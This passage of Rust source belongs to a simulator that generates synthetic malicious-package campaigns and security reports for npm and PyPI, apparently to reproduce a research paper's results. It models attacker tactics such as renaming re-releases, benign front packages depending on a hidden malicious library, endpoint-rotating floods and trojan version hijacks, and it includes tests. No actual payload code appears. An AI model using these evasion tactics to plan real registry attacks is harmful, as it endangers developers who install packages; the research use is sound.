                    let chunk: Vec<PkgIdx> = pkgs[overlap_from..end].to_vec();
                    let last_removed = chunk
                        .iter()
                        .filter_map(|p| self.packages[p.index()].removed)
                        .max()
                        .unwrap_or(self.config.collect_time);
                    let site = pick_site(&mut self.rng);
                    reports.push(SecurityReport {
                        id: report_id,
                        website: site,
                        published: (last_removed + SimDuration::days(1)).min(self.config.collect_time),
                        title: format!(
                            "Sophisticated, highly-targeted attacks by {} continue to plague npm",
                            actor.handle()
                        ),
                        packages: chunk,
                        actor_handle: Some(actor.handle()),
                        campaign: Some(show_idx),
                    });
                    report_id += 1;
                    start = end;
                }
            }
        }

        // Reported campaign clusters per ecosystem (Table VII CG).
        for eco in Ecosystem::MAJOR {
            let Some((groups, mean_size)) = calibration::cg_targets(eco) else {
                continue;
            };
            let n_clusters = ((groups as f64 * scale).round() as usize).max(1);
            let mut eco_campaigns: Vec<usize> = self
                .campaigns
                .iter()
                .enumerate()
                .filter(|(_, c)| c.ecosystem == eco && !c.reported)
                .map(|(i, _)| i)
                .collect();
            eco_campaigns.shuffle(&mut self.rng);
            let merge = if eco == Ecosystem::Npm { 3 } else { 1 };
            // Cluster by actor: a report chain discloses one actor's
            // campaigns, so ground truth and attribution stay coherent.
            eco_campaigns.sort_by_key(|&c| self.campaigns[c].actor);
            let mut cursor = 0usize;
            for _ in 0..n_clusters {
                if cursor >= eco_campaigns.len() {
                    break;
                }
                let actor0 = self.campaigns[eco_campaigns[cursor]].actor;
                let group: Vec<usize> = eco_campaigns[cursor..]
                    .iter()
                    .take(merge)
                    .take_while(|&&c| self.campaigns[c].actor == actor0)
                    .copied()
                    .collect();
                cursor += group.len();
                // Collect the cluster's dataset packages, earliest first.
                let mut pkgs: Vec<PkgIdx> = group
                    .iter()
                    .flat_map(|&c| self.campaigns[c].packages.iter().copied())
                    .filter(|p| mentioned.contains(p))
                    .collect();
                pkgs.sort_by_key(|p| self.packages[p.index()].released);
                if pkgs.len() < 2 {
                    continue;
                }
                let ln = LogNormal::new(mean_size.ln(), 0.6).expect("valid parameters");
                let cover = (ln.sample(&mut self.rng) as usize).clamp(2, pkgs.len());
                let covered = &pkgs[..cover];
                let actor = self.campaigns[group[0]].actor;
                for &c in &group {
                    self.campaigns[c].reported = true;
                }
                // Chunk into reports of 4–9 packages, chained by one
                // shared package so the CG component stays connected.
                let mut start = 0usize;
                while start < covered.len() {
                    let len = self.rng.gen_range(4..=9).min(covered.len() - start);
                    let end = start + len;
                    let overlap_from = start.saturating_sub(1);
                    let chunk: Vec<PkgIdx> = covered[overlap_from..end].to_vec();
                    let last_removed = chunk
                        .iter()
                        .filter_map(|p| self.packages[p.index()].removed)
                        .max()
                        .unwrap_or(self.config.collect_time);
                    let site = pick_site(&mut self.rng);
                    reports.push(SecurityReport {
                        id: report_id,
                        website: site,
                        published: (last_removed + SimDuration::days(self.rng.gen_range(1..4)))
                            .min(self.config.collect_time),
                        title: format!(
                            "Malicious packages tied to {} flood {}",
                            actor.handle(),
                            eco.display_name()
                        ),
                        packages: chunk,
                        actor_handle: self.rng.gen_bool(0.6).then(|| actor.handle()),
                        campaign: Some(CampaignIdx(group[0] as u32)),
                    });
                    report_id += 1;
                    start = end;
                }
            }
        }

        // Singleton reports on loners to fill Table III volume.
        let target_reports = ((1366.0 * scale).round() as usize).max(reports.len());
        let mut loner_pkgs: Vec<PkgIdx> = mentioned
            .iter()
            .copied()
            .filter(|p| self.packages[p.index()].campaign.is_none())
            .collect();
        loner_pkgs.sort_unstable();
        loner_pkgs.shuffle(&mut self.rng);
        for pkg in loner_pkgs {
            if reports.len() >= target_reports {
                break;
            }
            let removed = self.packages[pkg.index()]
                .removed
                .expect("loners are always removed");
            let site = pick_site(&mut self.rng);
            reports.push(SecurityReport {
                id: report_id,
                website: site,
                published: (removed + SimDuration::days(self.rng.gen_range(1..10)))
                    .min(self.config.collect_time),
                title: format!(
                    "Malicious package {} spotted on {}",
                    self.packages[pkg.index()].id.name(),
                    self.packages[pkg.index()].id.ecosystem().display_name()
                ),
                packages: vec![pkg],
                actor_handle: None,
                campaign: None,
            });
            report_id += 1;
        }

        (websites, reports)
    }
}

fn slug(cat: ReportCategory) -> &'static str {
    match cat {
        ReportCategory::TechnicalCommunity => "tech-community",
        ReportCategory::Commercial => "commercial-org",
        ReportCategory::News => "news-site",
        ReportCategory::Individual => "indie-blog",
        ReportCategory::Official => "official-advisory",
        ReportCategory::Other => "other-site",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small_world() -> World {
        World::generate(WorldConfig::small(42))
    }

    #[test]
    fn generation_is_deterministic() {
        let a = small_world();
        let b = small_world();
        assert_eq!(a.packages.len(), b.packages.len());
        assert_eq!(a.mentions.len(), b.mentions.len());
        assert_eq!(a.reports.len(), b.reports.len());
        for (x, y) in a.packages.iter().zip(&b.packages) {
            assert_eq!(x.id, y.id);
            assert_eq!(x.signature, y.signature);
        }
    }

    #[test]
    fn every_mention_points_at_a_dataset_candidate() {
        let w = small_world();
        for m in &w.mentions {
            let p = w.package(m.package);
            assert!(p.removed.is_some(), "{} was never removed", p.id);
            assert!(p.released <= w.config.collect_time);
        }
    }

    #[test]
    fn mentions_cover_all_ten_sources() {
        let w = small_world();
        for source in SourceId::ALL {
            assert!(
                w.mentions.iter().any(|m| m.source == source),
                "{source} has no mentions"
            );
        }
    }

    #[test]
    fn campaign_package_wiring_is_consistent() {
        let w = small_world();
        for (ci, campaign) in w.campaigns.iter().enumerate() {
            for &pkg in &campaign.packages {
                let p = w.package(pkg);
                assert_eq!(
                    p.campaign,
                    Some(CampaignIdx(ci as u32)),
                    "package {} not wired to campaign {ci}",
                    p.id
                );
            }
        }
    }

    #[test]
    fn world_contains_all_campaign_kinds() {
        let w = small_world();
        for kind in [
            CampaignKind::Similar,
            CampaignKind::Dependency,
            CampaignKind::Trojan,
            CampaignKind::Flood,
        ] {
            assert!(
                w.campaigns.iter().any(|c| c.kind == kind),
                "missing campaign kind {kind:?}"
            );
        }
    }

    #[test]
    fn showcase_campaign_exists_with_paper_names() {
        let w = small_world();
        for name in ["cloud-layout", "etc-crypto", "mall-front-babel-directive"] {
            assert!(
                w.packages.iter().any(|p| p.id.name().as_str() == name),
                "showcase package {name} missing"
            );
        }
    }

    #[test]
    fn unavailability_has_documented_causes() {
        let w = small_world();
        for p in &w.packages {
            if p.mirror_available {
                assert_eq!(p.unavail_cause, None);
            } else {
                assert!(p.unavail_cause.is_some(), "{} lacks a cause", p.id);
            }
            if !p.id.ecosystem().has_mirrors() {
                assert_eq!(p.unavail_cause, Some(UnavailCause::NoMirrors));
            }
        }
    }

    #[test]
    fn availability_is_mixed() {
        let w = small_world();
        let avail = w.packages.iter().filter(|p| p.mirror_available).count();
        let unavail = w.packages.len() - avail;
        assert!(avail > 0, "nothing is recoverable");
        assert!(unavail > 0, "everything is recoverable");
    }

    #[test]
    fn reports_reference_mentioned_packages_only() {
        let w = small_world();
        let mentioned: std::collections::HashSet<PkgIdx> =
            w.mentions.iter().map(|m| m.package).collect();
        for r in &w.reports {
            assert!(!r.packages.is_empty());
            for p in &r.packages {
                assert!(mentioned.contains(p), "report {} names unmentioned package", r.id);
            }
        }
    }

    #[test]
    fn multi_package_reports_exist_for_cg() {
        let w = small_world();
        assert!(
            w.reports.iter().any(|r| r.packages.len() >= 2),
            "no multi-package reports — CG would be empty"
        );
    }

    #[test]
    fn trojans_leave_benign_versions_in_the_registry() {
        let w = small_world();
        let trojan = w
            .campaigns
            .iter()
            .find(|c| c.kind == CampaignKind::Trojan)
            .expect("trojans exist");
        let name = w.package(trojan.packages[0]).id.name().clone();
        let history = w.version_history(trojan.ecosystem, &name);
        assert!(history.len() >= 3);
        assert!(
            history.iter().any(|&p| w.package(p).removed.is_none()),
            "benign trojan versions stay in the registry"
        );
        // Version order is ascending.
        for pair in history.windows(2) {
            assert!(w.package(pair[0]).id.version() < w.package(pair[1]).id.version());
        }
    }

    #[test]
    fn release_years_span_the_fig2_range() {
        let w = small_world();
        let years: std::collections::HashSet<i32> =
            w.packages.iter().map(|p| p.released.year()).collect();
        assert!(years.contains(&2022));
        assert!(years.contains(&2023));
        assert!(years.len() >= 4, "timeline too narrow: {years:?}");
    }

    #[test]
    fn single_source_mentions_dominate() {
        let w = small_world();
        let mut per_pkg: HashMap<PkgIdx, usize> = HashMap::new();
        for m in &w.mentions {
            *per_pkg.entry(m.package).or_default() += 1;
        }
        let singles = per_pkg.values().filter(|&&c| c == 1).count();
        let frac = singles as f64 / per_pkg.len() as f64;
        assert!(frac > 0.6, "Fig. 4: most packages single-source, got {frac:.2}");
    }
}
