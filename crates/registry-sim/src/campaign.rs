//! Attack campaigns: the generative process behind the corpus.
//!
//! The paper's life-cycle model (Fig. 6 / Fig. 10) is
//! {changing → release → detection → removal}, repeated until the actor
//! gives up. Each campaign kind maps onto one of the paper's analysis
//! groups:
//!
//! * [`CampaignKind::Similar`] — same code re-released under fresh names
//!   (SG; the dominant strategy, short active periods, Fig. 9);
//! * [`CampaignKind::Dependency`] — a benign-looking front package
//!   depending on a malicious library (DeG; rare, **longest** active
//!   period, Fig. 7);
//! * [`CampaignKind::Flood`] — thousands of near-identical packages
//!   registered in a burst (the PyPI registering-flood report);
//! * [`CampaignKind::Trojan`] — version hijack of a package that first
//!   builds legitimacy, producing the download outliers of Fig. 11 and
//!   the multi-op IDN rows of Table VIII.

use crate::downloads;
use crate::names::NameGenerator;
use crate::package::{CampaignIdx, PkgIdx, SimPackage};
use minilang::gen::{generate, generate_benign, mutate, Behavior, Mutation};
use minilang::printer::print_module;
use minilang::Module;
use oss_types::{
    ActorId, ChangeOp, Ecosystem, OpSet, PackageId, PackageName, Sha256, SimDuration, SimTime,
    Version,
};
use rand::seq::SliceRandom;
use rand::Rng;
use rand_distr::{Distribution, LogNormal};

/// Campaign strategy.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum CampaignKind {
    /// Re-release similar code under fresh names.
    Similar,
    /// Hide the payload behind a dependency edge.
    Dependency,
    /// Register a large burst of near-identical packages.
    Flood,
    /// Hijack versions of a package that built legitimacy first.
    Trojan,
}

impl CampaignKind {
    /// Label used in logs and the repro harness.
    pub fn label(self) -> &'static str {
        match self {
            CampaignKind::Similar => "similar",
            CampaignKind::Dependency => "dependency",
            CampaignKind::Flood => "flood",
            CampaignKind::Trojan => "trojan",
        }
    }
}

/// Ground-truth record of one campaign.
#[derive(Debug, Clone)]
pub struct Campaign {
    /// Index in the world's campaign list.
    pub idx: CampaignIdx,
    /// Strategy.
    pub kind: CampaignKind,
    /// Adversary identity.
    pub actor: ActorId,
    /// Target ecosystem.
    pub ecosystem: Ecosystem,
    /// Behaviour family of the payload.
    pub behavior: Behavior,
    /// First release instant.
    pub start: SimTime,
    /// Packages released by the campaign, in attempt order.
    pub packages: Vec<PkgIdx>,
    /// Whether the report layer chose to disclose this campaign.
    pub reported: bool,
}

/// Generation parameters for one campaign, decided by the world builder.
#[derive(Debug, Clone)]
pub struct CampaignPlan {
    /// Strategy.
    pub kind: CampaignKind,
    /// Target ecosystem.
    pub ecosystem: Ecosystem,
    /// Payload behaviour family.
    pub behavior: Behavior,
    /// Adversary identity.
    pub actor: ActorId,
    /// First release instant.
    pub start: SimTime,
    /// Number of release attempts.
    pub attempts: usize,
    /// Mean gap between consecutive attempts.
    pub mean_gap: SimDuration,
    /// Mean persistence (release → removal) in hours.
    pub mean_persistence_hours: f64,
    /// Trojan campaigns only: force a top-popularity base package (the
    /// Table VIII outlier) instead of sampling from the mixture. The
    /// world builder sets this on the first trojan so every corpus
    /// carries at least one 10⁷-scale IDN lineage.
    pub mega_popularity: bool,
    /// Dependency campaigns only: release window for the benign fronts.
    /// When set, fronts are spread uniformly inside it instead of
    /// following `mean_gap` — the world builder uses this to model
    /// survivorship: the DeG campaigns a collector can observe are those
    /// whose fronts were still mirror-recoverable at collection time.
    pub front_release_window: Option<(SimTime, SimTime)>,
}

/// Everything a materialized campaign produces.
#[derive(Debug)]
pub struct MaterializedCampaign {
    /// The campaign record (package indices already wired).
    pub campaign: Campaign,
    /// The generated packages, in attempt order.
    pub packages: Vec<SimPackage>,
}

impl CampaignPlan {
    /// Generates the campaign's packages.
    ///
    /// `idx` is the campaign's index in the world; `first_pkg_idx` the
    /// index the first produced package will receive.
    ///
    /// # Panics
    ///
    /// Panics if `attempts == 0`.
    pub fn materialize(
        &self,
        idx: CampaignIdx,
        first_pkg_idx: u32,
        names: &mut NameGenerator,
        rng: &mut impl Rng,
    ) -> MaterializedCampaign {
        assert!(self.attempts > 0, "a campaign needs at least one attempt");
        match self.kind {
            CampaignKind::Dependency => self.materialize_dependency(idx, first_pkg_idx, names, rng),
            CampaignKind::Trojan => self.materialize_trojan(idx, first_pkg_idx, names, rng),
            _ => self.materialize_serial(idx, first_pkg_idx, names, rng),
        }
    }

    /// Similar / Flood: one lineage of re-released packages.
    fn materialize_serial(
        &self,
        idx: CampaignIdx,
        first_pkg_idx: u32,
        names: &mut NameGenerator,
        rng: &mut impl Rng,
    ) -> MaterializedCampaign {
        let mut packages = Vec::with_capacity(self.attempts);
        // The actor keeps a master copy; each CC attempt derives from it
        // with fresh small edits rather than accumulating mutations, so
        // every release stays near the master (which is what keeps large
        // similar campaigns in one SG even when mirrors lose members).
        let base_module = generate(self.behavior, rng);
        let mut module = base_module.clone();
        let mut name = names.fresh(rng);
        let mut version = Version::default();
        let mut description = describe(self.behavior, rng);
        let mut deps = legit_deps(rng);
        let mut t = self.start;

        for attempt in 0..self.attempts {
            let mut ops = OpSet::empty();
            if attempt > 0 {
                // {changing → release}: decide this attempt's operations.
                let freq = crate::calibration::OP_FREQUENCIES;
                // CV-only re-release: the previous name is usually still
                // live at the next attempt (detection lags by hours), so
                // the attacker can push a new version of the same name.
                if rng.gen_bool(freq.change_version) {
                    version = version.bump_patch();
                    ops.insert(ChangeOp::ChangeVersion);
                } else {
                    name = names.sibling(&name, rng);
                    version = Version::default();
                    ops.insert(ChangeOp::ChangeName);
                }
                if rng.gen_bool(freq.change_description) {
                    description = describe(self.behavior, rng);
                    ops.insert(ChangeOp::ChangeDescription);
                }
                if rng.gen_bool(freq.change_dependency) {
                    deps = legit_deps(rng);
                    ops.insert(ChangeOp::ChangeDependency);
                }
                if rng.gen_bool(freq.change_code) {
                    let n_mut = 1 + usize::from(rng.gen_bool(0.45));
                    module = base_module.clone();
                    for _ in 0..n_mut {
                        // Floods rotate literals only (a fresh C2
                        // endpoint per registration) and never touch the
                        // code structure; ordinary campaigns use the full
                        // mutation mix.
                        let mutation = if self.kind == CampaignKind::Flood {
                            if rng.gen_bool(0.6) {
                                Mutation::SwapStringLiteral
                            } else {
                                Mutation::TweakIntConstant
                            }
                        } else {
                            small_biased_mutation(rng)
                        };
                        module = mutate(&module, mutation, rng);
                    }
                    ops.insert(ChangeOp::ChangeCode);
                }
            }

            // Flood registrations overwhelm the registry staff: the real
            // 2023 PyPI flood was cleaned up in bulk sweeps days later,
            // which is why mirrors caught (and the paper recovered) most
            // of it. Ordinary releases are pulled at the usual latency.
            let persistence_mean = if self.kind == CampaignKind::Flood {
                self.mean_persistence_hours * 12.0
            } else {
                self.mean_persistence_hours
            };
            let mut persistence = sample_persistence(persistence_mean, rng);
            if self.kind == CampaignKind::Flood {
                // The sweep finishes within weeks — no flood package
                // outlives the collection crawl months later.
                persistence = persistence.min(SimDuration::days(21));
            }
            let removed = t + persistence;
            let dl = downloads::ordinary_downloads(persistence.as_minutes() as f64 / 60.0, rng);
            packages.push(build_package(
                self, idx, attempt, name.clone(), version.clone(), &module,
                description.clone(), deps.clone(), t, Some(removed), dl, ops,
                Some(self.behavior),
            ));
            t += gap_sample(self.mean_gap, rng);
        }
        wire(idx, self, first_pkg_idx, packages)
    }

    /// Dependency attack (Fig. 7): a malicious library first, then a
    /// benign-looking front that depends on it.
    fn materialize_dependency(
        &self,
        idx: CampaignIdx,
        first_pkg_idx: u32,
        names: &mut NameGenerator,
        rng: &mut impl Rng,
    ) -> MaterializedCampaign {
        let attempts = self.attempts.max(2);
        let mut packages = Vec::with_capacity(attempts);
        let mut t = self.start;

        // The hidden malicious library: long persistence (it looks
        // innocent until the front is analysed).
        let lib_module = generate(self.behavior, rng);
        let lib_name = names.fresh(rng);
        let lib_persistence = sample_persistence(self.mean_persistence_hours * 20.0, rng);
        let lib_dl = downloads::ordinary_downloads(lib_persistence.as_hours() as f64, rng);
        packages.push(build_package(
            self, idx, 0, lib_name.clone(), Version::default(), &lib_module,
            describe(self.behavior, rng), legit_deps(rng), t,
            Some(t + lib_persistence), lib_dl, OpSet::empty(), Some(self.behavior),
        ));

        // Front packages: benign code, the malicious library declared as
        // a dependency. These follow much later — DeG campaigns have the
        // longest active periods (Fig. 9).
        let mut front_times: Vec<SimTime> = (1..attempts)
            .map(|_| match self.front_release_window {
                Some((lo, hi)) => {
                    let span = (hi - lo).as_minutes().max(1);
                    lo + SimDuration::minutes(rng.gen_range(0..span))
                }
                None => {
                    t += gap_sample(self.mean_gap, rng);
                    t
                }
            })
            .collect();
        front_times.sort_unstable();
        for (attempt, t) in (1..attempts).zip(front_times) {
            let front_module = generate_benign(rng);
            let front_name = names.fresh(rng);
            let mut deps = legit_deps(rng);
            deps.push(lib_name.clone());
            // Fronts look entirely benign, so the registry takes weeks to
            // act on them — long persistence is what keeps them
            // recoverable from mirrors (and what the analysts diffed).
            let persistence = sample_persistence(self.mean_persistence_hours * 30.0, rng);
            let dl = downloads::ordinary_downloads(persistence.as_hours() as f64, rng);
            let mut ops = OpSet::empty();
            ops.insert(ChangeOp::ChangeName);
            ops.insert(ChangeOp::ChangeDependency);
            ops.insert(ChangeOp::ChangeCode);
            packages.push(build_package(
                self, idx, attempt, front_name, Version::default(), &front_module,
                benign_description(rng), deps, t, Some(t + persistence), dl, ops,
                None, // the front package itself carries no payload
            ));
        }
        wire(idx, self, first_pkg_idx, packages)
    }

    /// Trojan (Table VIII): same name throughout, versions bump, downloads
    /// compound, the payload lands in the final releases.
    fn materialize_trojan(
        &self,
        idx: CampaignIdx,
        first_pkg_idx: u32,
        names: &mut NameGenerator,
        rng: &mut impl Rng,
    ) -> MaterializedCampaign {
        let attempts = self.attempts.max(3);
        let mut packages = Vec::with_capacity(attempts);
        let name = names.fresh(rng);
        let base_dl = if self.mega_popularity {
            rng.gen_range(10_000_000..60_000_000)
        } else {
            downloads::trojan_base_downloads(rng)
        };
        let mut version = Version::default();
        let mut module = generate_benign(rng);
        let mut description = benign_description(rng);
        let mut deps = legit_deps(rng);
        let mut t = self.start;
        let malicious_from = attempts - 1 - usize::from(attempts > 4);

        for attempt in 0..attempts {
            let is_malicious = attempt >= malicious_from;
            let mut ops = OpSet::empty();
            if attempt > 0 {
                version = if rng.gen_bool(0.3) {
                    version.bump_minor()
                } else {
                    version.bump_patch()
                };
                ops.insert(ChangeOp::ChangeVersion);
                // "constantly adding new features": code & metadata churn.
                if rng.gen_bool(0.8) {
                    let m = *Mutation::ALL.choose(rng).expect("non-empty");
                    module = mutate(&module, m, rng);
                    ops.insert(ChangeOp::ChangeCode);
                }
                if rng.gen_bool(0.6) {
                    description = benign_description(rng);
                    ops.insert(ChangeOp::ChangeDescription);
                }
                if rng.gen_bool(0.5) {
                    deps = legit_deps(rng);
                    ops.insert(ChangeOp::ChangeDependency);
                }
            }
            if is_malicious && attempt == malicious_from {
                // The payload is spliced in: a large CC.
                let payload = generate(self.behavior, rng);
                let mut combined = module.clone();
                combined.body.extend(payload.body);
                module = combined;
                ops.insert(ChangeOp::ChangeCode);
            }
            let (persistence, removed) = if is_malicious {
                // Disguised as an update of a trusted package: survives
                // much longer before detection.
                let p = sample_persistence(self.mean_persistence_hours * 10.0, rng);
                (p, Some(t + p))
            } else {
                (SimDuration::ZERO, None) // benign versions are never removed
            };
            let dl = downloads::trojan_downloads(base_dl, attempt, rng);
            let _ = persistence;
            packages.push(build_package(
                self, idx, attempt, name.clone(), version.clone(), &module,
                description.clone(), deps.clone(), t, removed, dl, ops,
                is_malicious.then_some(self.behavior),
            ));
            t += gap_sample(self.mean_gap, rng);
        }
        wire(idx, self, first_pkg_idx, packages)
    }
}

#[allow(clippy::too_many_arguments)]
fn build_package(
    plan: &CampaignPlan,
    idx: CampaignIdx,
    attempt: usize,
    name: PackageName,
    version: Version,
    module: &Module,
    description: String,
    deps: Vec<PackageName>,
    released: SimTime,
    removed: Option<SimTime>,
    downloads: u64,
    ops: OpSet,
    behavior: Option<Behavior>,
) -> SimPackage {
    let id = PackageId::new(plan.ecosystem, name, version);
    let source_text = print_module(module);
    let signature = artifact_signature(&id, &description, &deps, &source_text);
    SimPackage {
        id,
        description,
        dependencies: deps,
        source_text,
        signature,
        released,
        removed,
        downloads,
        campaign: Some(idx),
        attempt,
        actor: plan.actor,
        behavior,
        ops_from_prev: ops,
        // Filled by the availability pass in the world builder.
        mirror_available: false,
        unavail_cause: None,
    }
}

fn wire(
    idx: CampaignIdx,
    plan: &CampaignPlan,
    first_pkg_idx: u32,
    packages: Vec<SimPackage>,
) -> MaterializedCampaign {
    let pkg_indices = (0..packages.len() as u32)
        .map(|i| PkgIdx(first_pkg_idx + i))
        .collect();
    MaterializedCampaign {
        campaign: Campaign {
            idx,
            kind: plan.kind,
            actor: plan.actor,
            ecosystem: plan.ecosystem,
            behavior: plan.behavior,
            start: plan.start,
            packages: pkg_indices,
            reported: false,
        },
        packages,
    }
}

/// Picks a mutation biased toward single-line edits, matching the
/// paper's ≈3.7 changed lines per CC operation (endpoint swaps dominate;
/// wholesale function insertion is rare).
fn small_biased_mutation(rng: &mut impl Rng) -> Mutation {
    let roll: f64 = rng.gen();
    if roll < 0.40 {
        Mutation::SwapStringLiteral
    } else if roll < 0.62 {
        Mutation::TweakIntConstant
    } else if roll < 0.82 {
        Mutation::RenameIdentifier
    } else {
        Mutation::InsertBenignFunction
    }
}

/// Signature over the whole artifact: identity, metadata and code. Two
/// *mentions* of the same release hash identically; two campaign attempts
/// never do (name or version always changes between attempts).
pub fn artifact_signature(
    id: &PackageId,
    description: &str,
    deps: &[PackageName],
    source_text: &str,
) -> Sha256 {
    let mut blob = String::new();
    blob.push_str(&id.to_string());
    blob.push('\n');
    blob.push_str(description);
    blob.push('\n');
    for d in deps {
        blob.push_str(d.as_str());
        blob.push(',');
    }
    blob.push('\n');
    blob.push_str(source_text);
    Sha256::digest_str(&blob)
}

/// Samples a persistence duration: log-normal around the mean, floored at
/// 20 minutes (the registry never reacts instantly).
pub fn sample_persistence(mean_hours: f64, rng: &mut impl Rng) -> SimDuration {
    let mu = mean_hours.max(0.5).ln();
    let ln = LogNormal::new(mu, 1.0).expect("valid parameters");
    let hours = ln.sample(rng).clamp(0.3, 24.0 * 365.0 * 3.0);
    SimDuration::minutes((hours * 60.0).max(20.0) as u64)
}

fn gap_sample(mean: SimDuration, rng: &mut impl Rng) -> SimDuration {
    let m = mean.as_minutes().max(1) as f64;
    let ln = LogNormal::new(m.ln(), 0.8).expect("valid parameters");
    SimDuration::minutes(ln.sample(rng).clamp(1.0, 3.0 * 365.0 * 1440.0) as u64)
}

const DESCRIPTION_WORDS: [&str; 18] = [
    "fast", "lightweight", "simple", "secure", "modern", "async", "utility", "helper", "client",
    "wrapper", "parser", "toolkit", "logging", "http", "color", "config", "cache", "testing",
];

fn describe(behavior: Behavior, rng: &mut impl Rng) -> String {
    // Malicious descriptions mimic utility libraries; the behaviour never
    // appears in metadata, but campaigns keep a loose theme.
    let _ = behavior;
    benign_description(rng)
}

fn benign_description(rng: &mut impl Rng) -> String {
    let a = DESCRIPTION_WORDS.choose(rng).expect("non-empty");
    let b = DESCRIPTION_WORDS.choose(rng).expect("non-empty");
    let c = DESCRIPTION_WORDS.choose(rng).expect("non-empty");
    format!("a {a} {b} {c} library")
}

fn legit_deps(rng: &mut impl Rng) -> Vec<PackageName> {
    let n = rng.gen_range(0..=3);
    let mut deps = Vec::with_capacity(n);
    for _ in 0..n {
        let name = crate::names::POPULAR_TARGETS
            .choose(rng)
            .expect("non-empty");
        let parsed = PackageName::new(name).expect("popular targets are valid names");
        if !deps.contains(&parsed) {
            deps.push(parsed);
        }
    }
    deps
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn plan(kind: CampaignKind, attempts: usize) -> CampaignPlan {
        CampaignPlan {
            kind,
            ecosystem: Ecosystem::PyPI,
            behavior: Behavior::ExfilAws,
            actor: ActorId::new(7),
            start: SimTime::from_ymd(2023, 3, 1),
            attempts,
            mean_gap: SimDuration::days(2),
            mean_persistence_hours: 36.0,
            mega_popularity: false,
            front_release_window: None,
        }
    }

    fn materialize(p: &CampaignPlan, seed: u64) -> MaterializedCampaign {
        let mut names = NameGenerator::new(0);
        let mut rng = StdRng::seed_from_u64(seed);
        p.materialize(CampaignIdx(0), 0, &mut names, &mut rng)
    }

    #[test]
    fn serial_campaign_produces_ordered_unique_attempts() {
        let m = materialize(&plan(CampaignKind::Similar, 12), 1);
        assert_eq!(m.packages.len(), 12);
        for (i, pkg) in m.packages.iter().enumerate() {
            assert_eq!(pkg.attempt, i);
            assert_eq!(pkg.campaign, Some(CampaignIdx(0)));
        }
        for pair in m.packages.windows(2) {
            assert!(pair[0].released <= pair[1].released, "release order");
            assert_ne!(pair[0].id, pair[1].id, "identities must differ");
            assert_ne!(pair[0].signature, pair[1].signature);
        }
        assert_eq!(m.campaign.packages.len(), 12);
    }

    #[test]
    fn first_attempt_has_no_ops_later_attempts_do() {
        let m = materialize(&plan(CampaignKind::Similar, 8), 2);
        assert!(m.packages[0].ops_from_prev.is_empty());
        for pkg in &m.packages[1..] {
            assert!(!pkg.ops_from_prev.is_empty(), "attempt {} has no ops", pkg.attempt);
            assert!(
                pkg.ops_from_prev.contains(ChangeOp::ChangeName)
                    || pkg.ops_from_prev.contains(ChangeOp::ChangeVersion),
                "every re-release changes name or version"
            );
        }
    }

    #[test]
    fn cn_dominates_in_similar_campaigns() {
        let mut names = NameGenerator::new(0);
        let mut rng = StdRng::seed_from_u64(3);
        let p = plan(CampaignKind::Similar, 40);
        let mut cn = 0usize;
        let mut total = 0usize;
        for c in 0..10u32 {
            let m = p.materialize(CampaignIdx(c), 0, &mut names, &mut rng);
            for pkg in &m.packages[1..] {
                total += 1;
                if pkg.ops_from_prev.contains(ChangeOp::ChangeName) {
                    cn += 1;
                }
            }
        }
        let frac = cn as f64 / total as f64;
        assert!(frac > 0.93, "CN should dominate (Fig. 12 ≈98.9%), got {frac}");
    }

    #[test]
    fn dependency_campaign_wires_the_front_to_the_library() {
        let m = materialize(&plan(CampaignKind::Dependency, 3), 4);
        assert!(m.packages.len() >= 2);
        let lib = &m.packages[0];
        assert!(lib.is_malicious(), "the hidden library carries the payload");
        for front in &m.packages[1..] {
            assert!(!front.is_malicious(), "fronts look benign");
            assert!(
                front.dependencies.contains(lib.id.name()),
                "front must depend on the malicious library"
            );
        }
    }

    #[test]
    fn trojan_keeps_its_name_and_grows_downloads() {
        let m = materialize(&plan(CampaignKind::Trojan, 6), 5);
        let name = m.packages[0].id.name().clone();
        assert!(m.packages.iter().all(|p| p.id.name() == &name));
        // Versions strictly increase.
        for pair in m.packages.windows(2) {
            assert!(pair[0].id.version() < pair[1].id.version());
            assert!(
                pair[1].ops_from_prev.contains(ChangeOp::ChangeVersion),
                "trojans re-release by version"
            );
        }
        assert!(m.packages.last().unwrap().is_malicious());
        assert!(!m.packages[0].is_malicious());
        let d0 = m.packages[0].downloads;
        let dn = m.packages.last().unwrap().downloads;
        assert!(dn > d0, "downloads grow: {d0} → {dn}");
    }

    #[test]
    fn materialization_is_deterministic() {
        let p = plan(CampaignKind::Similar, 5);
        let a = materialize(&p, 9);
        let b = materialize(&p, 9);
        for (x, y) in a.packages.iter().zip(&b.packages) {
            assert_eq!(x.id, y.id);
            assert_eq!(x.signature, y.signature);
            assert_eq!(x.downloads, y.downloads);
        }
    }

    #[test]
    fn generated_code_always_parses() {
        for kind in [CampaignKind::Similar, CampaignKind::Dependency, CampaignKind::Trojan] {
            let m = materialize(&plan(kind, 5), 11);
            for pkg in &m.packages {
                minilang::parse(&pkg.source_text)
                    .unwrap_or_else(|e| panic!("{:?} attempt {}: {e}", kind, pkg.attempt));
            }
        }
    }

    #[test]
    fn persistence_sampling_stays_in_bounds() {
        let mut rng = StdRng::seed_from_u64(13);
        for _ in 0..500 {
            let p = sample_persistence(36.0, &mut rng);
            assert!(p.as_minutes() >= 20);
            assert!(p.as_days() <= 3 * 365);
        }
    }

    #[test]
    #[should_panic(expected = "at least one attempt")]
    fn zero_attempts_panics() {
        let _ = materialize(&plan(CampaignKind::Similar, 0), 1);
    }
}
