//! Download-count model.
//!
//! Fig. 11 of the paper shows that most release attempts accumulate 0–1
//! downloads before removal, a minority reach 10–40, and a handful of
//! outliers — malicious versions of *popular* packages — reach millions.
//! Table VIII ranks the top increases (IDN up to 66,092,932). The model:
//!
//! * ordinary attempts: Poisson with rate proportional to persistence
//!   (the registry removes malware fast, so counts stay tiny);
//! * trojan attempts: a popularity base that grows with every release as
//!   the attacker "continues to camouflage it as a popular package".

use rand::Rng;
use rand_distr::{Distribution, LogNormal, Poisson};

/// Expected downloads per hour of persistence for an ordinary malicious
/// package nobody is steering traffic to.
const BASE_RATE_PER_HOUR: f64 = 0.02;

/// Samples the download count of an ordinary (non-trojan) release that
/// stayed up for `persistence_hours`.
pub fn ordinary_downloads(persistence_hours: f64, rng: &mut impl Rng) -> u64 {
    let lambda = (persistence_hours.max(0.0) * BASE_RATE_PER_HOUR).max(1e-9);
    // An occasional release gets briefly promoted (spam, typosquat luck)
    // and lands in the 10–40 band.
